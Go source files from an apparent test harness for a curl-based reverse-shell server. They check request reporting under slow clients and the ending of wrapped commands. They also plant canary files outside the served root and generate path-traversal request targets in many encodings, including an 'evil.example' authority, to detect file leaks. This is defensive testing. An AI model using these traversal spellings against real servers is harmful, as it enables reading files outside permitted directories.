	conn, eff, err := slowDial(ss.s.Addr, c.RcvBuf)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("slow client %d could not connect: %v", c.CI, err))
		return nil
	}
	defer conn.Close()
	if eff > 0 && eff <= 1<<20 {
		r.Count("slow_clients_with_a_small_receive_buffer", 1)
	}
	br := bufio.NewReaderSize(conn, 16<<10)
	res := ss.exchange(conn, br, c.Target, c.Range, !c.Keep, c.stops, c.start, c.end)
	r.Sample("slow:"+c.Beh, map[string]any{"case": c, "file_size": ss.f.size, "so_rcvbuf_in_effect": eff, "answer": res})
	if ss.judge(c, true, c.Target, c.Range, res) {
		asked = append(asked, slowAsked{c.nonce, c.CI})
	}
	if c.Keep && res.exact() && res.Status >= 200 && res.Status <= 299 {
		rv := fmt.Sprintf("bytes=%d-%d", c.fStart, c.fEnd)
		r.Count("slow_second_requests", 1)
		res2 := ss.exchange(conn, br, c.fTarget, rv, true, nil, c.fStart, c.fEnd)
		if ss.judge(c, false, c.fTarget, rv, res2) {
			asked = append(asked, slowAsked{c.fnonce, c.CI})
		}
	}
	return asked
}

func runSlow(r *mon.Run, si int, d slowDims) {
	var cis []int
	for _, ci := range d.casesOf(si) {
		if r.Want("slow", ci) {
			cis = append(cis, ci)
		}
	}
	if len(cis) == 0 {
		return
	}
	k := slowKinds[si%len(slowKinds)]
	defer func(t0 time.Time) { r.Logf("slow server %d (%s) done in %.1fs", si, k.name, time.Since(t0).Seconds()) }(time.Now())
	rng := r.Rng("slow-server", si)
	ss := &slowSrv{r: r, si: si, kind: k.name, mode: k.mode, d: d}
	base := filepath.Join(r.Work, fmt.Sprintf("slow%d", si))
	root := filepath.Join(base, "srv")
	ss.rel = liveNames[rng.IntN(len(liveNames))]
	if rng.IntN(2) == 0 {
		ss.rel = pick(rng, []string{"dl", "pkg 1", "a/b"}) + "/" + ss.rel
	}
	// log-uniform between what the stops need and 64 MiB, not aligned to anything
	lo := float64(d.bodyMin + 1<<20)
	size := int64(lo*math.Pow(float64(slowMaxFile)/lo, rng.Float64())) - rng.Int64N(slowStep)
	f, err := makeSlowFile(filepath.Join(root, filepath.FromSlash(ss.rel)), fmt.Sprintf("W%05x", rng.Uint32()&0xfffff), size)
	if err != nil {
		r.Inconclusive("slow: making the file: " + err.Error())
		return
	}
	ss.f = f
	os.WriteFile(filepath.Join(root, "readme.txt"), []byte("a small file beside the big one\n"), 0o644)
	final := root
	if ss.mode == "single" {
		final = f.path
	}
	ss.fdir, ss.links = final, map[string]string{"single": "regular file", "dir": "directory"}[ss.mode]
	if strings.HasPrefix(k.name, "symlink") {
		hops := 1
		if strings.Contains(k.name, "chain") {
			hops = 2 + rng.IntN(3)
		}
		ldir := filepath.Join(base, "links")
		if err := os.MkdirAll(ldir, 0o755); err != nil {
			r.Inconclusive("slow: mkdir: " + err.Error())
			return
		}
		ss.fdir, ss.links = makeLinks(rng, ldir, "cur", final, hops)
	}
	s, err := hk.Start(hk.Config{FDir: ss.fdir})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("server (-serve-files-from = %s) did not start: %v", k.name, err))
		return
	}
	defer s.Stop()
	ss.s = s
	r.Count("slow_servers", 1)
	r.Count("slow_servers:"+k.name, 1)
	r.Count("slow_file_bytes", size)
	var wg sync.WaitGroup
	var mu sync.Mutex
	var asked []slowAsked
	for _, ci := range cis {
		c := ss.plan(ci)
		wg.Add(1)
		go func() {
			defer wg.Done()
			a := ss.runCase(c)
			mu.Lock()
			asked = append(asked, a...)
			mu.Unlock()
		}()
	}
	wg.Wait()
	// every answered request was reported: its line precedes a marker sent now
	seq, ok := s.Mark(fmt.Sprintf("MARK-slow-%d", si))
	if !ok {
		r.Inconclusive("marker lost")
		return
	}
	lines := s.OpLines(0, seq)
	for _, a := range asked {
		nonce, n := a.nonce, 0
		for _, e := range lines {
			if strings.Contains(e.S, "File requested:") && strings.HasSuffix(e.S, "?s="+nonce) {
				n++
			}
		}
		switch {
		case n == 0:
			var ls []string
			for _, e := range lines {
				ls = append(ls, trunc(e.S, 160))
			}
			r.Violate("slow", a.ci, "file-request-not-reported", fmt.Sprintf("a file request that was answered (…?s=%s) was not reported to the operator [-serve-files-from = %s]", nonce, ss.kind),
				map[string]any{"root_kind": ss.kind, "serve_files_from": ss.fdir, "nonce": nonce, "operator_lines": ls})
		case n == 1:
			r.Count("slow_requests_reported_once", 1)
		default:
			r.Count("slow_requests_reported_more_than_once", 1) // recorded; the statement only demands the report
		}
		r.Count("slow_report_checks", 1)
	}
}

// slowFloors: a run in which a dimension of the engine was not exercised is
// inconclusive.
func slowFloors(r *mon.Run, d slowDims) {
	ns, nc := int64(d.ns), int64(d.nc)
	r.Extra("slow_downloaders", map[string]any{"tcp_wmem_max": d.wmem, "bytes_that_may_sit_between_handler_and_reader": d.need, "smallest_body": d.bodyMin, "largest_file": slowMaxFile})
	r.Floor("slow_servers", ns)
	nk := int64(min(d.ns, len(slowKinds)))
	for _, k := range slowKinds[:nk] {
		r.Floor("slow_servers:"+k.name, ns/nk)
		r.Floor("slow_bodies_exact_of:"+k.name, nc/nk)
	}
	r.Floor("slow_file_bytes", ns*d.bodyMin)
	r.Floor("slow_cases", nc)
	for _, b := range slowBehs[:d.nb] {
		r.Floor("slow_cases:"+b.name, nc/int64(d.nb))
		r.Floor("slow_bodies_exact:"+b.name, nc/int64(d.nb))
	}
	r.Floor("slow_clients_with_a_small_receive_buffer", nc)
	r.Floor("slow_bodies_exact", nc)
	r.Floor("slow_bodies_exact_mode:single", nc/2)
	r.Floor("slow_bodies_exact_mode:dir", nc/2)
	r.Floor("slow_bodies_exact_client_stalled_11s_or_more_mode:single", nc/6)
	r.Floor("slow_bodies_exact_client_stalled_11s_or_more_mode:dir", nc/6)
	r.Floor("slow_bodies_exact_with_two_pauses", nc/6)
	r.Floor("slow_whole_files_exact", nc/3)
	r.Floor("slow_ranges_exact", nc/3)
	for _, s := range []string{"range-open", "range-closed", "range-suffix"} {
		r.Floor("slow_ranges_exact:"+s, nc/12)
	}
	r.Floor("slow_pauses", nc/2)
	r.Floor("slow_pauses_with_more_unread_than_the_kernel_holds", nc/2)
	for _, s := range []string{"4s", "11s", "16s", "31s"} {
		r.Floor("slow_pauses_of:"+s, nc/12)
	}
	r.Floor("slow_trickle_reads", 100*(nc/12))
	r.Floor("slow_body_bytes_compared", nc*d.bodyMin)
	r.Floor("slow_second_requests_exact", nc/4)
	r.Floor("slow_report_checks", nc)
	r.Floor("slow_requests_reported_once", nc)
}

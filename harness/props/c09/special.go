package c09

// Special names. The canaries of genTree carry names the harness made up; a
// request never ends in one of them unless it was aimed there. A server that
// treats some file NAME specially (index.html, a name equal to an in-tree
// file, the last segment of the request ...) and looks it up by itself is seen
// only if a file of exactly that name waits outside the root. This file plants
// such canaries beside, above and next to the root (and next to the symbolic
// links that name it) and writes traversal targets in every spelling of the
// other classes whose last segment is such a name. The oracle is the general
// one (judgeHop): no response carries a canary token, a 2xx body is exactly an
// in-tree file.

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

type spAim struct {
	aim
	abs  string // the canary the aim names when counted from the real root
	last string // counter label: the special name, or "(in-tree name)"
	loc  string // where the canary sits relative to the root
}

// names that the program, net/http or web servers in general treat specially,
// and the names of the shell endpoints
var spFixed = []string{"index.html", "index.htm", "favicon.ico", "robots.txt", ".htaccess", "c", "io", "x", "i/x", "o/x"}

var spFixedSet = func() map[string]bool {
	m := map[string]bool{}
	for _, n := range spFixed {
		m[n] = true
	}
	return m
}()

var tokenRe = regexp.MustCompile(`T[0-9a-f]{12}-\d+-[0-9a-f]{12}Z`)

// plant makes abs a canary of this tree. A shared canary (one above all case
// directories) is written by the first tree that wants it and adopted by the
// others. false: the place is taken by something that is not a canary.
func (t *tree) plant(rng *rand.Rand, abs string, shared bool) bool {
	t.ntok++
	tok := newToken(rng, t.ntok)
	lines := 1 + rng.IntN(20)
	if t.canaryAt[abs] {
		return true
	}
	if b, err := os.ReadFile(abs); err == nil {
		if old := tokenRe.FindString(string(b)); shared && old != "" && strings.HasPrefix(string(b), "CANARY ") {
			t.canary = append(t.canary, old)
			t.canaryL = append(t.canaryL, abs)
			t.canaryAt[abs] = true
			t.nSpecial++
			return true
		}
		return false
	}
	if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
		return false
	}
	if fi, err := os.Lstat(abs); err == nil && fi.IsDir() {
		return false
	}
	if err := os.WriteFile(abs, []byte(strings.Repeat("CANARY "+tok+"\n", lines)), 0o644); err != nil {
		return false
	}
	t.canary = append(t.canary, tok)
	t.canaryL = append(t.canaryL, abs)
	t.canaryAt[abs] = true
	t.nSpecial++
	return true
}

func spLabel(rel string) string {
	if spFixedSet[rel] {
		return rel
	}
	if b := path.Base(rel); spFixedSet[b] {
		return b
	}
	return "(in-tree name)"
}

func (t *tree) plantSpecials(r *mon.Run, rng *rand.Rand) {
	work := filepath.Dir(t.caseDir)
	caseName := filepath.Base(t.caseDir)
	add := func(ups int, rest, abs, loc string, shared bool) bool {
		if !t.plant(rng, abs, shared) {
			return false
		}
		t.spAims = append(t.spAims, spAim{aim{ups, rest}, abs, spLabel(spTail(rest)), loc})
		return true
	}
	under := func(n string) string { return filepath.FromSlash(n) }
	// the parent of the root holds every special name
	for _, n := range spFixed {
		if add(1, n, filepath.Join(t.caseDir, under(n)), "parent", false) {
			// the same file by other routes: further up and down again, from the top of the file system
			t.spAims = append(t.spAims, spAim{aim{2, caseName + "/" + n}, filepath.Join(t.caseDir, under(n)), spLabel(n), "parent-by-name"})
		}
	}
	t.spAims = append(t.spAims, spAim{aim{30, strings.TrimPrefix(filepath.Join(t.caseDir, "index.html"), "/")}, filepath.Join(t.caseDir, "index.html"), "index.html", "absolute"})
	// sibling directories of the root
	for _, n := range []string{"index.html", "favicon.ico", ".htaccess", "c"} {
		add(1, "secret/"+n, filepath.Join(t.caseDir, "secret", n), "sibling-directory", false)
	}
	for _, n := range []string{"index.html", "robots.txt", "index.htm"} {
		add(1, "rootx/"+n, filepath.Join(t.caseDir, "rootx", n), "sibling-directory", false)
	}
	// the directory of the symbolic links: "one up" from a root that is named through a link, read lexically
	for _, n := range []string{"index.html", "index.htm", "favicon.ico", "robots.txt", ".htaccess", "c", "io", "x"} {
		add(1, "links/"+n, filepath.Join(t.caseDir, "links", n), "links-directory", false)
	}
	// above all case directories (shared by the trees)
	for _, n := range []string{"index.html", "index.htm", "favicon.ico", "robots.txt", ".htaccess", "c", "io"} {
		add(2, n, filepath.Join(work, n), "grandparent", true)
	}
	// names equal to files of the tree, at the same relative place outside it
	cand := []string{t.single, "withindex/index.html", "sub/f.txt", "sub/c"}
	for k := 0; k < 4; k++ {
		cand = append(cand, pick(rng, t.fileL))
	}
	seen := map[string]bool{}
	for _, rel := range cand {
		if seen[rel] {
			continue
		}
		seen[rel] = true
		add(1, rel, filepath.Join(t.caseDir, under(rel)), "parent", false)
		add(1, "links/"+rel, filepath.Join(t.caseDir, "links", under(rel)), "links-directory", false)
	}
}

// spTail: the part of an aim's rest that names the file (everything after the
// directory the canary's location adds).
func spTail(rest string) string {
	for _, p := range []string{"secret/", "rootx/", "links/"} {
		if strings.HasPrefix(rest, p) {
			return rest[len(p):]
		}
	}
	return rest
}

const spBase = 80000

// the share of special-name targets per root kind (index into rootKinds)
var spDiv = []int{1, 2, 4, 1, 4, 2, 4, 4}

func spCount(r *mon.Run, ki int) int { return r.N(160, 600) / spDiv[ki] }

var spStyles = []string{"dotseg-encoded", "dotseg-encoded", "dotseg-encoded", "dotseg-encoded", "dotseg-plain", "dotseg-plain", "double-encoded", "encoded-slash", "backslash", "semicolon", "overlong", "trailing-dot", "empty-seg"}

func spMethodLabel(m string) string {
	if m == "CONNECT" {
		return m
	}
	return mclass(m)
}

// spTarget: a traversal in one of the existing spellings whose last segment
// is a special name, under a method and in a form drawn independently.
func (t *tree) spTarget(rng *rand.Rand) (tgt, spAim, string) {
	g := tgt{class: "special-name", method: "GET", proto: "HTTP/1.1"}
	a := pick(rng, t.spAims)
	st := pick(rng, spStyles)
	g.target = t.traversalTo(rng, styles[st], []aim{a.aim})
	switch k := rng.IntN(12); {
	case k < 2:
		g.method = "CONNECT"
	case k == 2:
		g.method = "HEAD"
	case k == 3:
		g.method = "POST"
	case k == 4:
		g.method = pick(rng, []string{"PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"})
	case k == 5:
		g.method = pick(rng, mxOdd)
	}
	if rng.IntN(12) == 0 {
		g.target += pick(rng, []string{"?x=1", "?", "?/../index.html", "?index.html"})
	}
	switch {
	case g.method != "CONNECT" && rng.IntN(8) == 0:
		scheme := pick(rng, []string{"https://", "http://", "HTTPS://", "https://"})
		auth := pick(rng, []string{host, host, "evil.example:99", "127.0.0.1", "[::1]:443", "user@" + host})
		g.target = scheme + auth + g.target
	case g.method == "GET" && rng.IntN(12) == 0 && (st == "dotseg-encoded" || st == "dotseg-plain" || st == "double-encoded" || st == "encoded-slash"):
		g.curl, g.weak = true, true
	}
	g.aimAt = a.abs
	return g, a, st
}

// lexical: the file a handler would name if it decoded the path once and
// joined it to the configured path by itself.
func (sv *server) lexical(inf info) (string, bool) {
	if sv.fdir == "" || !inf.valid || inf.escPath == "" {
		return "", false
	}
	return filepath.Join(sv.fdir, "/"+strings.Join(inf.segs, "/")), true
}

func (sv *server) runSpecials(base, ki int) bool {
	r, t := sv.r, sv.t
	n := spCount(r, ki)
	for j := 0; j < n; j++ {
		idx := base + spBase + j
		if !r.Want("target", idx) {
			continue
		}
		g, a, st := t.spTarget(r.Rng("special", sv.si*10000+j))
		if !sv.runTarget(idx, g) {
			return false
		}
		r.Eval(1)
		r.Count("sp_targets", 1)
		r.Count("sp_targets_of:"+sv.kind, 1)
		r.Count("sp_style:"+st, 1)
		r.Count("sp_method:"+spMethodLabel(g.method), 1)
		r.Count("sp_last:"+a.last, 1)
		r.Count("sp_loc:"+a.loc, 1)
		if g.curl {
			r.Count("sp_through_curl", 1)
		}
		r.Distinct("sp|" + sv.kind + "|" + strconv.Itoa(t.idx) + "|" + g.method + " " + g.target)
		inf := analyse(g.method, g.target)
		if inf.form == "absolute" {
			r.Count("sp_form:absolute", 1)
		}
		if inf.query != "" || strings.HasSuffix(g.target, "?") {
			r.Count("sp_with_query", 1)
		}
		if (inf.form == "origin" || inf.form == "absolute") && inf.valid && !inf.muxRedir && inf.shell == "" {
			// the router passes the request on as written
			r.Count("sp_passed_on_as_written", 1)
			if abs, ok := sv.lexical(inf); ok && t.canaryAt[abs] {
				r.Count("sp_lexically_on_a_canary", 1)
				r.Count("sp_lexically_on_a_canary_of:"+sv.kind, 1)
				r.Count("sp_lexically_on_a_canary_named:"+spLabel(filepath.Base(abs)), 1)
				via := "encoded-dots"
				switch {
				case g.method == "CONNECT":
					via = "CONNECT"
				case inf.form == "absolute":
					via = "absolute-form"
				case g.method != "GET":
					via = "encoded-dots-other-method"
				}
				r.Count("sp_lexically_on_a_canary_via:"+via, 1)
				r.Sample("special-name:lexically-on-a-canary:"+via, map[string]any{"tree": t.idx, "root_kind": sv.kind, "request": fmt.Sprintf("%s %s", g.method, g.target), "names": abs})
			}
		}
	}
	return true
}

func specialFloors(r *mon.Run, nt int) {
	q := func(quick, thorough int64) int64 {
		if r.Thorough() {
			return thorough
		}
		return quick
	}
	total := 0
	for ki, k := range rootKinds {
		total += nt * spCount(r, ki)
		r.Floor("sp_targets_of:"+k.name, int64(nt*spCount(r, ki)))
	}
	r.Floor("sp_targets", int64(total))
	r.Floor("special_name_canaries", int64(nt*30))
	// the router passed the request on as written, and read lexically (decoded once, joined to the
	// configured path) it names a canary that exists: the cases in which a look-up of its own would leak
	r.Floor("sp_passed_on_as_written", q(900, 27000))
	r.Floor("sp_lexically_on_a_canary", q(200, 6000))
	r.Floor("sp_lexically_on_a_canary_of:dir", q(80, 2400))
	r.Floor("sp_lexically_on_a_canary_of:symlink-to-dir", q(50, 1500))
	r.Floor("sp_lexically_on_a_canary_of:symlink-chain-to-dir", q(25, 750))
	r.Floor("sp_lexically_on_a_canary_via:encoded-dots", q(90, 2700))
	r.Floor("sp_lexically_on_a_canary_via:encoded-dots-other-method", q(50, 1500))
	r.Floor("sp_lexically_on_a_canary_via:CONNECT", q(40, 1200))
	r.Floor("sp_lexically_on_a_canary_via:absolute-form", q(20, 600))
	r.Floor("sp_lexically_on_a_canary_named:index.html", q(30, 900))
	for _, n := range []string{"index.htm", "favicon.ico", "robots.txt", ".htaccess", "c", "io", "x", "(in-tree name)"} {
		r.Floor("sp_lexically_on_a_canary_named:"+n, q(15, 450))
	}
	for _, n := range spFixed {
		r.Floor("sp_last:"+n, q(60, 1800))
	}
	r.Floor("sp_last:(in-tree name)", q(60, 1800))
	seen := map[string]bool{}
	for _, st := range spStyles {
		if !seen[st] {
			seen[st] = true
			r.Floor("sp_style:"+st, q(90, 2700))
		}
	}
	r.Floor("sp_method:GET", q(600, 18000))
	r.Floor("sp_method:CONNECT", q(150, 4500))
	for _, m := range []string{"HEAD", "POST", "made-up"} {
		r.Floor("sp_method:"+m, q(100, 3000))
	}
	r.Floor("sp_form:absolute", q(120, 3600))
	for _, l := range []string{"parent", "parent-by-name", "sibling-directory", "links-directory", "grandparent"} {
		r.Floor("sp_loc:"+l, q(150, 4500))
	}
	r.Floor("sp_loc:absolute", q(20, 600))
	r.Floor("sp_through_curl", q(20, 600))
}

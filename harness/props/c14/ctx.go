package c14

// Engine "ctx": how the wrapped command was built and how it ends.
//
// The other engines build the child with defaults and let it end by itself.
// Here the *exec.Cmd handed to NewCmdShell is built in every documented way -
// exec.Command, exec.CommandContext with the default Cancel (Kill), with a
// Cancel that sends SIGTERM (the child reports and exits, or ignores it), with
// Cancel set back to nil, and each of them with or without a WaitDelay of the
// caller's own - and the command's context is cancelled at a scripted point of
// the child's plan: while the child is blocked in a write or pausing before
// its last write, after its last write while it lingers, after it has exited,
// or never.  At that point a scripted amount of output (0 bytes to what both
// descriptors' pipes and the relay can hold) has been written by the child and
// not yet been read from Output(): the consumer has read an exact number of
// bytes first, the child continues only then (gate file), and the consumer
// reads nothing more until a scripted time (0 to several seconds) after the
// cancellation; then it drains the stream.
//
// The oracle is the one of the case engine: the child's own account (a
// progress report after every write of the unread part, a final report after
// the last write, an exact report from its SIGTERM handler) is a lower bound
// of what it wrote, and all of that must have arrived when Output() reports
// io.EOF.  A stream that ends with an error instead (what os/exec does to the
// pipes when a WaitDelay THE CALLER asked for expires; without one it is a violation) is not a clean end and
// is only counted.

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	ctxEngine  = "ctx"
	ctxWorkers = 16
	relayBuf   = 32768 // io.Copy's buffer: what one relay goroutine can hold in flight
)

var ctxBuilds = []string{"ctx", "ctx-term", "ctx-nocancel", "ctx-waitdelay", "command", "ctx-term-waitdelay"}

// point of the cancellation, weighted; two cases with the same (build, stall)
// are three entries apart.
var ctxPoints = []string{"after-last-write", "mid-write", "after-exit", "mid-write", "after-last-write", "never"}

var ctxStallsQuick = []int{0, 300, 1200, 2500, 6500, 21500}
var ctxStallsThorough = []int{0, 300, 1200, 1600, 2500, 3500, 5500, 6500, 11000, 21500, 32000}

type ctxSpec struct {
	C           *spec  // the child program
	Build       string // how the *exec.Cmd was made
	WaitDelayMs int    // the caller's own cmd.WaitDelay, 0 = not set
	IgnoreTerm  bool   // ctx-term builds: the child ignores SIGTERM
	GoCtx       bool   // CmdShell.Go gets the command's context (otherwise context.Background())
	Point       string // after-last-write | mid-write | after-exit | never
	MidKind     string // mid-write: blocked (in a write larger than the pipes can take) | pause (sleeping before its last write)
	Stdin       string // open-pipe | open-pipe-data | none | open-osfile | eof-reader
	AOut, AErr  int    // written and read by the consumer before the stall
	BOut, BErr  int    // written after that, unread when the context is cancelled
	WB          [2]int // write size of the unread part, per descriptor
	COut, CErr  int    // mid-write: what the child still has to write when the context is cancelled
	PostMs      int    // pause between reaching the point and the cancellation
	StallMs     int    // the consumer reads nothing for this long after the cancellation
	Drain       consumerSpec
}

// endsByItself: nothing the context does ends this child.
func (e *ctxSpec) endsByItself() bool {
	switch {
	case e.Point == "never" || e.Point == "after-exit":
		return true
	case e.Build == "command" || e.Build == "ctx-nocancel":
		return true
	case e.Build == "ctx-term" && e.IgnoreTerm:
		return true
	}
	return false
}

func (e *ctxSpec) hasCtx() bool { return e.Build != "command" }

func genCtx(r *mon.Run, i int) *ctxSpec {
	rng := r.Rng(ctxEngine, i)
	stalls := ctxStallsQuick
	if r.Thorough() {
		stalls = ctxStallsThorough
	}
	// stall, build and point go by index: every (build, stall) pair appears
	// whatever the seed; the rest comes from the PRNG.
	a, b, c := i%len(stalls), (i/len(stalls))%len(ctxBuilds), i/(len(stalls)*len(ctxBuilds))
	e := &ctxSpec{Build: ctxBuilds[b], StallMs: stalls[a]}
	e.Point = ctxPoints[(a+b+3*c+c/2)%len(ctxPoints)]
	switch e.Build {
	case "ctx-waitdelay", "ctx-term-waitdelay":
		e.WaitDelayMs = []int{200, 700, 1500, 3000}[rng.IntN(4)]
	case "command":
		e.WaitDelayMs = []int{0, 0, 500}[rng.IntN(3)]
	}
	if strings.HasPrefix(e.Build, "ctx-term") {
		e.IgnoreTerm = rng.IntN(4) == 0
	}
	e.GoCtx = rng.IntN(2) == 0
	e.Stdin = []string{"open-pipe", "open-pipe", "open-pipe", "open-pipe-data", "open-pipe-data", "none", "open-osfile", "eof-reader"}[rng.IntN(8)]
	e.PostMs = []int{0, 0, 5, 30}[rng.IntN(4)]

	// read before the stall
	e.AOut = []int{0, 0, 1, 5000, 65536, 200000}[rng.IntN(6)]
	e.AErr = []int{0, 0, 1, 5000, 65536, 200000}[rng.IntN(6)]
	// unread at the cancellation: fits in the pipe (64 KiB) plus what the relay
	// takes out with its first read (at most its 32 KiB buffer)
	for fd := 0; fd < 2; fd++ {
		n := []int{0, 1, 4096, 32768, 32769, 40000, 60000, 65536, 65536, 90000, 98304}[rng.IntN(11)]
		w := []int{4096, 32768, 65536, n}[rng.IntN(4)]
		if n > 0 {
			w = min(w, n)
			if n/w > 24 {
				w = n
			}
			if n > pipeCap { // one write: the relay's first read takes a full buffer out
				w = n
			}
		}
		e.WB[fd] = w
		if fd == 0 {
			e.BOut = n
		} else {
			e.BErr = n
		}
	}
	switch rng.IntN(8) {
	case 0:
		e.BOut = 0
	case 1:
		e.BErr = 0
	case 2, 3: // both pipes full or nearly so
		e.BOut = []int{65536, 90000, 98304}[rng.IntN(3)]
		e.BErr = []int{65536, 90000, 98304}[rng.IntN(3)]
		e.WB = [2]int{e.BOut, e.BErr}
	}

	if i%9 == 4 { // nothing unread at all
		e.BOut, e.BErr = 0, 0
	}
	if e.StallMs >= 20000 {
		// the longest stall: the command has ended BY ITSELF (nothing is cancelled), one
		// descriptor is done, the other still has more pending than the relay holds in its hands
		e.Point = []string{"never", "after-exit"}[b%2]
		n := []int{40000, 60000, 90000, 98304}[(b/2+c)%4]
		e.BOut, e.BErr = n, 0
		if (b+c)%2 == 1 {
			e.BOut, e.BErr = 0, n
		}
		e.WB = [2]int{max(e.BOut, 1), max(e.BErr, 1)}
		e.WaitDelayMs = 0
	}

	cs := &spec{Index: i, Mode: "pattern", Flavor: "perl"}
	e.C = cs
	cs.Exit = pick(rng, exitSet)
	var ops []op
	if e.IgnoreTerm {
		ops = append(ops, op{K: "T"})
	}
	so, do := writeSizes(rng, e.AOut)
	se, de := writeSizes(rng, e.AErr)
	cs.WOut, cs.WErr = do, de
	cs.Interleave = []string{"out-first", "err-first", "random", "alternate"}[rng.IntN(4)]
	ops = append(ops, mergeOps(rng, cs.Interleave, so, se)...)
	ops = append(ops, op{K: "Q"}, op{K: "G"})
	split := func(n, w int) (s []int) {
		for ; n > 0; n -= w {
			s = append(s, min(w, n))
		}
		return
	}
	for _, o := range mergeOps(rng, cs.Interleave, split(e.BOut, e.WB[0]), split(e.BErr, e.WB[1])) {
		ops = append(ops, o, op{K: "Q"})
	}
	// a child nothing will end lingers a little longer than the stall
	linger := 20_000_000
	if e.endsByItself() {
		linger = (e.StallMs + 300) * 1000
	}
	switch e.Point {
	case "after-last-write":
		cs.ExitMode = "linger"
		cs.LingerMs = linger / 1000
		ops = append(ops, op{K: "R"}, op{K: "S", N: linger})
	case "after-exit", "never":
		cs.ExitMode = "after-report"
		ops = append(ops, op{K: "R"})
		if rng.IntN(2) == 0 {
			cs.ExitMode = "linger"
			cs.LingerMs = 1 + rng.IntN(20)
			ops = append(ops, op{K: "S", N: cs.LingerMs * 1000})
		}
	case "mid-write":
		cs.ExitMode = "after-report"
		fd := 1 + rng.IntN(2)
		n := 1000
		if e.MidKind = []string{"pause", "blocked", "blocked"}[(a+c)%3]; e.MidKind == "blocked" {
			n = 4 * pipeCap
		} else {
			ops = append(ops, op{K: "S", N: linger})
		}
		if fd == 1 {
			e.COut = n
		} else {
			e.CErr = n
		}
		ops = append(ops, op{K: fmt.Sprintf("w%d", fd), N: n}, op{K: "R"})
	}
	cs.Ops = ops
	cs.NOut, cs.NErr = e.AOut+e.BOut+e.COut, e.AErr+e.BErr+e.CErr
	e.Drain = genConsumer(rng, e.BOut+e.BErr+e.COut+e.CErr+1, true, []string{"fast", "fast", "chunked", "slow"}[rng.IntN(4)])
	return e
}

func (e *ctxSpec) sig() string {
	return fmt.Sprintf("%s|%d|%v|%v|%s|%s|%s|%d|%d|%d|%d|%v|%d|%d|%d|%d|%s|%v|%v|%d|%s",
		e.Build, e.WaitDelayMs, e.IgnoreTerm, e.GoCtx, e.Point, e.MidKind, e.Stdin, e.AOut, e.AErr, e.BOut, e.BErr, e.WB, e.COut, e.CErr,
		e.PostMs, e.StallMs, e.Drain.Kind, e.Drain.Chunks, e.Drain.DelaysUs, e.C.Exit, e.C.Interleave)
}

func (e *ctxSpec) desc() string {
	wd := ""
	if e.WaitDelayMs > 0 {
		wd = fmt.Sprintf(" WaitDelay %d ms", e.WaitDelayMs)
	}
	return fmt.Sprintf("ctx case %d (build %s%s, context cancelled %s, %d+%d bytes read first, %d+%d written and unread at that point, consumer stalls %d ms, input %s)",
		e.C.Index, e.Build, wd, e.Point, e.AOut, e.AErr, e.BOut, e.BErr, e.StallMs, e.Stdin)
}

type ctxResult struct {
	got            []byte
	termErr        error
	terminated     bool
	timedOut       bool
	goErr          error
	goReturned     bool
	goHung         bool
	killed         bool // by the harness, at teardown
	reads          int
	phase1         bool    // the consumer got the bytes it reads before the stall
	pointReached   bool    // the child was seen at the scripted point
	cancelled      bool    // cancel() was called on a context the command has
	repAtCancel    *report // the child's account at that moment
	gotAtCancel    int     // bytes the consumer had by then
	stall          time.Duration
	rep            *report
	procKnown      bool
	procSuccess    bool
	procExit       int
	procSignaled   bool
	procSignal     syscall.Signal
	procState      string
	setupErr       string
	wall           time.Duration
	streamEndToGo  time.Duration
	cancelToStream time.Duration
}

// consumeCtx reads exactly pre bytes, says so, waits for resume and drains.
func consumeCtx(out io.Reader, pre int, gotN *atomic.Int64, phase1 chan<- struct{}, resume <-chan struct{}, c consumerSpec, stop <-chan struct{}) (co consOut) {
	co.got = make([]byte, 0, pre+8*pipeCap)
	buf := make([]byte, 65536)
	for len(co.got) < pre {
		n, err := out.Read(buf[:min(len(buf), pre-len(co.got))])
		co.reads++
		co.got = append(co.got, buf[:n]...)
		gotN.Store(int64(len(co.got)))
		if err != nil {
			select {
			case <-stop:
				co.aborted = true
			default:
				co.err = err
			}
			return
		}
	}
	close(phase1)
	select {
	case <-resume:
	case <-stop:
		co.aborted = true
		return
	}
	for k := 0; ; k++ {
		if !nap(time.Duration(c.DelaysUs[k%len(c.DelaysUs)])*time.Microsecond, stop) {
			co.aborted = true
			return
		}
		n, err := out.Read(buf[:c.Chunks[k%len(c.Chunks)]])
		co.reads++
		co.got = append(co.got, buf[:n]...)
		gotN.Store(int64(len(co.got)))
		if err != nil {
			select {
			case <-stop:
				co.aborted = true
			default:
				co.err = err
			}
			return
		}
	}
}

func runCtx(e *ctxSpec, dir string, bound time.Duration) (res *ctxResult) {
	res = &ctxResult{}
	s := e.C
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	prog, text := s.script(dir)
	path := filepath.Join(dir, "child")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var cmd *exec.Cmd
	if e.hasCtx() {
		cmd = exec.CommandContext(ctx, prog, path)
	} else {
		cmd = exec.Command(prog, path)
	}
	cmd.Dir = dir
	switch e.Build {
	case "ctx-term", "ctx-term-waitdelay":
		cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	case "ctx-nocancel":
		cmd.Cancel = nil
	}
	if e.WaitDelayMs > 0 {
		cmd.WaitDelay = time.Duration(e.WaitDelayMs) * time.Millisecond
	}
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}

	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	stdinStop := make(chan struct{})
	var stdinOnce sync.Once
	closeStdin := func() { stdinOnce.Do(func() { close(stdinStop) }) }
	defer closeStdin()
	switch e.Stdin {
	case "open-pipe", "open-pipe-data":
		pr, pw := io.Pipe()
